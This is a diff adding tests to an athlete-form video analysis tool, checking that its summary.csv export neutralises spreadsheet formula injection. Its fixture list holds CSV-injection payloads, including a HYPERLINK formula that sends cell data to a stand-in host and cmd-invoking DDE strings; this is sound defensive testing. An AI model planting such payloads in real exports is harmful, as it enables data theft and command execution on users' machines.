@@ -16,6 +16,8 @@ from pathlib import Path
 from urllib.parse import unquote, urljoin, urlparse
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from formcheck.batch.records import KEY_METRICS, ClipJob, ClipResult
 from formcheck.batch.summary import (
@@ -617,3 +619,91 @@ def test_screenshot_of_a_squad(browser, tmp_path):
         shutil.copyfile(shot, docs)
     finally:
         page.close()
+
+
+# --- formula injection in summary.csv ---------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def _written(results, tmp_path) -> list[dict[str, str]]:
+    path = tmp_path / "summary.csv"
+    write_summary_csv(results, path)
+    with open(path, encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_text_cells_cannot_start_a_formula(tmp_path, text):
+    clip = text.replace("/", "_") + ".mp4"
+    result = make_result(clip, text, notes=text, out_rel=f"{text}/clip")
+    (row,) = _written([result], tmp_path)
+    assert row["athlete"] == "'" + text
+    assert row["notes"] == "'" + text
+    assert row["clip"] == "'" + clip
+    assert row["report"] == f"'{text}/clip/report.html"  # starts with the athlete
+    # The page shows the text as it is (it is escaped there, not quoted).
+    page = parse(render_summary_html([result]))
+    assert page.rows[0]["cells"]["athlete"]["v"] == text
+
+
+def test_csv_numbers_stay_numbers_negative_ones_included(tmp_path):
+    result = make_result(
+        "a.mp4",
+        "Ann",
+        notes="-5",
+        metrics={"trunk_lean_deg": -3.25, "cadence_spm": 170},
+    )
+    (row,) = _written([result], tmp_path)
+    assert row["trunk_lean_deg"] == "-3.2"  # rounded, not quoted
+    assert float(row["trunk_lean_deg"]) == pytest.approx(-3.2)
+    assert row["notes"] == "-5"  # text that is a plain number is a number anyway
+
+
+def test_csv_and_page_keep_line_breaks_in_notes(tmp_path):
+    result = make_result("a.mp4", "Ann", notes="first line\nsecond line")
+    (row,) = _written([result], tmp_path)
+    assert row["notes"] == "first line\nsecond line"
+    page = render_summary_html([result])
+    assert "first line\nsecond line" in page
+    assert "td.notes{white-space:pre-line}" in page
+
+
+TRIGGERS = "=+-@\t\r"
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    athlete=st.text(st.sampled_from("=+-@\t\r\n 1.e5aZ|!\"'"), max_size=12),
+    notes=st.text(max_size=30),
+    clip=st.text(st.characters(exclude_characters="/\x00"), min_size=1, max_size=12),
+    lean=st.floats(allow_nan=True, allow_infinity=True),
+)
+def test_no_csv_cell_starts_a_formula_unless_a_number(
+    tmp_path_factory, athlete, notes, clip, lean
+):
+    result = make_result(
+        clip, athlete, notes=notes, metrics={"trunk_lean_deg": lean}, error=None
+    )
+    failed = make_result(clip, athlete, status="failed", error=notes, notes=notes)
+    path = tmp_path_factory.mktemp("csv", numbered=True) / "summary.csv"
+    write_summary_csv([result, failed], path)
+    with open(path, encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == EXPECTED_HEADER
+    for row in rows[1:]:
+        for cell in row:
+            if cell and cell[0] in TRIGGERS:
+                float(cell)  # only a number may start like that
+        by_name = dict(zip(EXPECTED_HEADER, row, strict=True))
+        # Nothing is lost: at most one quote was added.
+        assert by_name["notes"] in (notes, "'" + notes)
+        assert by_name["athlete"] in (athlete or "unknown", "'" + athlete)
